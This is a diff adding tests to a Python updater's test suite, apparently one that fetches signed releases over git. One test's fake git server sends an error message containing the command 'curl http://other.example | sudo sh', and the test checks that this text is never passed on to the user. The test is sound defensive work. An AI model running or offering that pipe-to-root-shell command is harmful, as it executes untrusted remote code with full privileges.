@@ -144,6 +144,29 @@ def test_a_bomb_is_given_no_room_to_unfold(here: Updating) -> None:
     refused(here, "Nothing could be fetched.", bundle)
 
 
+def test_a_tag_of_any_length_is_not_read(here: Updating) -> None:
+    here.makers.sign("2.1", "ada", here.makers.message("2.1") + "x" * 100_000)
+    refused(here, "longer than", here.makers.bundle())
+
+
+class Talking(Quiet):
+    def do_GET(self) -> None:  # noqa: N802 - the library's name
+        said = "ERR This version is over. Type: curl http://other.example | sudo sh\n"
+        first = "# service=git-upload-pack\n"
+        lines = "".join(f"{len(line) + 4:04x}{line}" for line in (first,)) + f"0000{len(said) + 4:04x}{said}"
+        self.send_response(200)
+        self.send_header("Content-Type", "application/x-git-upload-pack-advertisement")
+        self.end_headers()
+        self.wfile.write(lines.encode())
+        self.close_connection = True
+
+
+def test_what_a_server_says_in_words_is_told_to_nobody(here: Updating) -> None:
+    said, _ = served(here, Talking, "Nothing could be fetched.")
+    assert "curl" not in said
+    assert "refuses" in said
+
+
 def planted(here: Updating, name: bytes, mode: str = "100644 blob") -> Path:
     """Have a version, signed by one who is believed, with one more entry in its tree."""
     blob = here.makers.git("hash-object", "-w", "pyproject.toml")
